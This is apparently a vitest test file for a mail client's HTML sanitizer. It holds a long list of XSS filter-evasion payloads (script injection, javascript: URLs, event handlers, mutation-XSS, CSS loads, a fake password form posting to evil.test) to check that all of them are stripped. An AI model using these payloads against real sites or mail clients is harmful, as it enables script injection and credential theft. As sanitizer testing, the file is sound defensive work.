import { describe, expect, it, vi } from 'vitest'
import { cleanHtml } from '../../../../../../shared/messages/mailbox/mail/clean-html.ts'

const clean = async (html: string): Promise<string> => (await cleanHtml(html)).html

/** Elements, attributes and addresses that may be left; everything else is a way to run or to load something. */
const element = /<\/?([a-z][^\s/>]*)((?:\s+[^\s=>/]+(?:="[^"]*")?)*)\s*\/?>/g
const safeElements = new Set(
  `a abbr address b bdi bdo big blockquote br caption center cite code col colgroup dd del dfn div dl dt em figcaption
  figure font h1 h2 h3 h4 h5 h6 hr i img ins kbd li mark ol p pre q s samp small span strike strong sub sup table tbody td
  tfoot th thead time tr tt u ul wbr`.split(/\s+/),
)
const safeAttributes = new Set(
  `style dir lang align valign title href rel src alt width height border referrerpolicy cellpadding cellspacing bgcolor
  colspan rowspan nowrap scope span start type color face size noshade datetime`.split(/\s+/),
)
const safeAddress = /^(?:https?:\/\/|mailto:|tel:|cid:|data:image\/(?:png|jpe?g|gif|webp|bmp);base64,)/i

const harmfulStyle = /url|expression|import|\\|@|&|[({](?!\d)|behavior|binding/i

function isHarmless(attribute: string, value: string): boolean {
  if (attribute === 'href' || attribute === 'src') return safeAddress.test(value)
  return safeAttributes.has(attribute) && !(attribute === 'style' && harmfulStyle.test(value))
}

/** Reads the answer as a browser does: every `<` is an element that is known, every attribute is quoted and harmless. */
function expectHarmless(html: string): void {
  const harmful: string[] = []
  const rest = html.replaceAll(element, (whole, name: string, attributes: string) => {
    const pairs = [...attributes.matchAll(/\s+([^\s=>/]+)(?:="([^"]*)")?/g)]
    const isSafe = pairs.every(([, attribute, value = '']) => isHarmless(attribute as string, value))
    if (!isSafe || !safeElements.has(name)) harmful.push(whole)
    return ''
  })
  expect(harmful).toEqual([])
  expect(rest).not.toMatch(/[<>]/)
}

/** OWASP's filter evasion cheat sheet, and mutations that sanitizers have missed. */
const attacks: readonly string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.test/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script/xss src="https://evil.test/x.js"></script>',
  '<<script>alert(1);//<</script>',
  '<script src=https://evil.test/x.js?<b>',
  '</script><script>alert(1)</script>',
  '<script\x00>alert(1)</script>',
  '<img src="javascript:alert(1);">',
  '<img src=javascript:alert(1)>',
  '<img src=JaVaScRiPt:alert(1)>',
  '<img src=`javascript:alert("x")`>',
  '<img """><script>alert(1)</script>">',
  '<img src=x onerror=alert(1)>',
  '<img src=x onerror="alert(1)"//',
  '<img/src="x"/onerror=alert(1)>',
  '<img src= onmouseover="alert(1)">',
  '<img onmouseover="alert(1)">',
  '<img src=/ onerror="alert(String.fromCharCode(88))"></img>',
  '<img src="jav&#x09;ascript:alert(1);">',
  '<img src="jav&#x0A;ascript:alert(1);">',
  '<img src=" &#14; javascript:alert(1);">',
  '<img src=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>',
  '<img src=&#0000106&#0000097&#0000118&#0000097:alert(1)>',
  '<img dynsrc="javascript:alert(1)"><img lowsrc="javascript:alert(1)">',
  '<img srcset="https://evil.test/x 1x" src="data:text/html,<script>alert(1)</script>">',
  '<img src="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=">',
  '<img src="//evil.test/x.png">',
  '<img src="/api/auth/logout">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="\x01javascript:alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61lert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
  '<a href="file:///etc/passwd">x</a>',
  '<a href="blob:https://x/y">x</a>',
  '<a href="/api/e/requests">x</a>',
  '<a href="//evil.test">x</a>',
  '<a onmouseover="alert(1)">x</a>',
  '<a href="https://x.test" onclick="alert(1)" target="_self" ping="https://evil.test" download>x</a>',
  '<a href="https://x.test/&quot;onmouseover=alert(1)//">x</a>',
  '<a href=\'https://x.test/"onmouseover="alert(1)\'>x</a>',
  '<body onload=alert(1)>',
  '<body background="javascript:alert(1)">',
  '<bgsound src="javascript:alert(1);">',
  '<br size="&{alert(1)}">',
  '<link rel="stylesheet" href="https://evil.test/x.css">',
  '<style>@import "https://evil.test/x.css";</style>',
  '<style>li {list-style-image: url("javascript:alert(1)");}</style><ul><li>x',
  '<style><img src="</style><img src=x onerror=alert(1)//">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1);">',
  '<meta http-equiv="refresh" content="0; url=https://evil.test">',
  '<base href="javascript:alert(1);//">',
  '<iframe src="javascript:alert(1);"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe><img src=x onerror=alert(1)></iframe>',
  '<frameset><frame src="javascript:alert(1);"></frameset>',
  '<object type="text/x-scriptlet" data="https://evil.test/x.html"></object>',
  '<object data="data:text/html;base64,PHNjcmlwdD4="></object>',
  '<embed src="https://evil.test/x.swf" allowscriptaccess="always">',
  '<applet code="x.class">',
  '<form action="https://evil.test"><input name=password><button>Log in</button></form>',
  '<form><button formaction="javascript:alert(1)">x</button></form>',
  '<isindex action="javascript:alert(1)" type=image>',
  '<input type="image" src="javascript:alert(1);">',
  '<input autofocus onfocus=alert(1)>',
  '<select autofocus onfocus=alert(1)><option>x</select>',
  '<textarea autofocus onfocus=alert(1)>',
  '<keygen autofocus onfocus=alert(1)>',
  '<video><source onerror="alert(1)"></video>',
  '<video poster="javascript:alert(1)"></video>',
  '<audio src=x onerror=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<dialog open onclose=alert(1)>x</dialog>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><set attributeName="href" to="javascript:alert(1)"></svg>',
  '<svg><use href="data:image/svg+xml;base64,PHN2Zz4="></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  '<math href="javascript:alert(1)">x</math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<noembed><p title="</noembed><img src=x onerror=alert(1)>">',
  '<noframes><p title="</noframes><img src=x onerror=alert(1)>">',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
  '<textarea><p title="</textarea><img src=x onerror=alert(1)>">',
  '<title><p title="</title><img src=x onerror=alert(1)>">',
  '<iframe><p title="</iframe><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<plaintext><script>alert(1)</script>',
  '<listing>&lt;img src=x onerror=alert(1)&gt;</listing>',
  '<p title="`<img src=x onerror=alert(1)>`">x</p>',
  '<p title="--><img src=x onerror=alert(1)>">x</p>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!--!><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><?import namespace="t"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
  '<x onclick=alert(1) contenteditable>x</x>',
  '<custom-element onclick=alert(1)>x</custom-element>',
  '<div style="background-image: url(javascript:alert(1))">x</div>',
  '<div style="background:url(https://evil.test/x)">x</div>',
  '<div style="width: expression(alert(1));">x</div>',
  '<div style="width: ex/**/pression(alert(1))">x</div>',
  '<div style="color:red;-moz-binding:url(https://evil.test/x.xml#x)">x</div>',
  '<div style="behavior:url(#x)">x</div>',
  '<div style="font-family: \'a\\27;background:url(x)\'">x</div>',
  '<div style="color:\\75\\72\\6c(https://evil.test)">x</div>',
  '<div style="@import \'https://evil.test/x.css\'">x</div>',
  '<div style="list-style:url(https://evil.test/x)">x</div>',
  '<div style="border-image:url(https://evil.test/x)">x</div>',
  '<div style="content:url(https://evil.test/x)">x</div>',
  '<div style="cursor:url(https://evil.test/x),auto">x</div>',
  '<div style="width:calc(1px + attr(x))">x</div>',
  '<div style="color:var(--x)">x</div>',
  '<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999">x</div>',
  '<div style="x:\n\n};*{background:url(x)}">x</div>',
  '<table background="https://evil.test/x"><td background="javascript:alert(1)">x</td></table>',
  '<div id="location" class="admin" name="x">x</div>',
  '<div onclick\x00=alert(1)>x</div>',
  '<div\x0conclick=alert(1)>x</div>',
  '<div/onclick=alert(1)>x</div>',
  '<div "onclick=alert(1)>x</div>',
  "<div x='\"onclick=alert(1)'>x</div>",
  '<b onclick="alert(1)" onclick=alert(2)>x</b>',
  '<p dir="rtl" lang=\'"><img src=x onerror=alert(1)>\'>x</p>',
  '<font color="&quot;><img src=x onerror=alert(1)>">x</font>',
  '\u003cscript\u003ealert(1)\u003c/script\u003e',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
  '<a href="https://x.test">\u2028<img src=x onerror=alert(1)>',
]

describe('cleanHtml', () => {
  it.each(attacks)('leaves nothing that runs or loads of %j', async (attack) => {
    const once = await clean(attack)
    expectHarmless(once)
    // A browser that parses what another wrote out must not find anything new.
    expectHarmless(await clean(once))
    expectHarmless(await clean(`<div>${attack}</div><p>${attack}`))
  })

  it.each([
    ['<p style="color:red; text-align: center">x</p>', '<p style="color:red;text-align:center">x</p>'],
    ['<span style="background-color:rgb(1, 2, 3)">x</span>', '<span style="background-color:rgb(1, 2, 3)">x</span>'],
    ['<td width="10" bgcolor="#fff">x</td>', '<td width="10" bgcolor="#fff">x</td>'],
    [
      '<a href="https://x.test/?a=1&b=2">x</a>',
      '<a href="https://x.test/?a=1&amp;b=2" rel="noopener noreferrer nofollow">x</a>',
    ],
    ['<a href="mailto:a@x.test">x</a>', '<a href="mailto:a@x.test" rel="noopener noreferrer nofollow">x</a>'],
    ['<img src="cid:a@b" alt="A">', '<img alt="A" src="cid:a@b" referrerpolicy="no-referrer" />'],
    ['<img src="data:image/png;base64,AAAA">', '<img src="data:image/png;base64,AAAA" referrerpolicy="no-referrer" />'],
    ['a < b & c > d', 'a &lt; b &amp; c &gt; d'],
    ['<b>Gr\u00fc\u00dfe</b>', '<b>Grüße</b>'],
  ])('keeps %j', async (html, kept) => {
    expect(await clean(html)).toBe(kept)
  })

  it('prints nothing of a style that it cannot read', async () => {
    const printed = (['log', 'warn', 'error'] as const).map((severity) => vi.spyOn(console, severity))
    expect(await clean('<p style="{forged line">x</p>')).toBe('<p>x</p>')
    for (const spy of printed) expect(spy).not.toHaveBeenCalled()
  })

  it.each([
    ['nested elements', '<b>'],
    ['nested lists', '<ul><li>'],
    ['nested tables', '<table><tr><td>'],
    ['angle brackets', '<'],
    ['ampersands', '&'],
    ['links', '<a href=http://x>'],
    ['styles', '<p style="color:red;color:red">'],
    ['braces in a style', '<p style="{{{{">'],
    ['noscript', '<noscript></div>'],
    ['unmatched ends', '<b></i>'],
  ])('takes a time that does not explode for a megabyte of %s', async (_, piece) => {
    const began = process.cpuUsage()
    const { html, isCut } = await cleanHtml(piece.repeat(2 ** 20 / piece.length))
    expect(process.cpuUsage(began).user / 1000).toBeLessThan(20_000)
    expect(isCut).toBe(true)
    expect(Buffer.byteLength(html)).toBeLessThanOrEqual(512 * 1024)
    expectHarmless(html)
  })
})
